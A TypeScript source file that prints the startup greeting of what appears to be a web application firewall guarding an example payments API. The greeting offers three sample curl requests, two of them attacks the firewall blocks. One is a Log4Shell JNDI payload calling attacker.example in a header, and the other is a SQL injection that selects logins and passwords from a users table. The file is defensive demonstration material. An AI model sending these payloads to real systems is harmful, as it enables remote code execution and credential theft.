/** What `npm start` says once the edge is ready: what is protected, by what, where, and three requests to try. */
import { resolve } from 'node:path'
import { styleText } from 'node:util'

export interface Setting {
  /** Of the edge. */
  readonly url: string
  /** Of the API behind it. */
  readonly upstream: string
  /** The certificate that clients must be told to trust. */
  readonly certificate: string
  readonly organisation: string
  readonly key: string
}

type Style = 'bold' | 'green' | 'red' | 'dim'
type Paint = (style: Style, text: string) => string

/** For standard error: plain where that is no terminal, or NO_COLOR is set (no-color.org). */
export const paintForStandardError: Paint = (style, text) => styleText(style, text, { stream: process.stderr })

/** Each command behaves as the line above it says; e2e/demo.test.ts runs them. */
export function greeting(setting: Setting, paint: Paint): string {
  const { url, upstream } = setting
  const lines = [
    '',
    paint('bold', 'Sallyport is at the door.'),
    `  protected   the example payments API at ${upstream}, all of /api/`,
    `  by          the built-in rules, blocking: packages/sallyport/rules/core`,
    `  where       ${paint('bold', url)}, HTTPS with a certificate of its own making`,
    `  decisions   one line of JSON each, below; ${paint('dim', 'Ctrl-C stops all')}`,
    '',
    'Three requests to try, in another terminal:',
    '',
    ...commands(setting).flatMap(({ says, style, command }) => [paint(style, `# ${says}`), command, '']),
  ]
  return lines.map((line) => `${line}\n`).join('')
}

interface Command {
  readonly says: string
  readonly style: Style
  readonly command: string
}

function commands({ url, certificate, organisation, key }: Setting): readonly Command[] {
  const curl = `curl -i --cacert ${quoted(resolve(certificate))} -u ${organisation}:${key}`
  const order = JSON.stringify({
    type: 'wire',
    direction: 'credit',
    amount: 125_00,
    currency: 'EUR',
    originating_account_id: 'ac_1',
    receiving_account_id: 'ac_2',
  })
  const orders = `${url}/api/payment_orders`
  return [
    {
      says: 'allowed, 201: a payment order of 125.00 EUR; again, and the same key gives the same order',
      style: 'green',
      command: `${curl} ${orders} -H 'Content-Type: application/json' -H 'Idempotency-Key: first' -d ${quoted(order)}`,
    },
    {
      says: 'refused, 403, and never sent on: Log4Shell (CVE-2021-44228) in a header',
      style: 'red',
      command: `${curl} ${orders} -H 'X-Api-Version: $\{jndi:ldap://attacker.example/a}'`,
    },
    {
      says: 'refused, 403, and never sent on: SQL injection in the query',
      style: 'red',
      command: `${curl} '${orders}?status=paid%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-'`,
    },
  ]
}

/** One word of a POSIX shell, whatever is in it. */
function quoted(word: string): string {
  return `'${word.replaceAll("'", `'\\''`)}'`
}
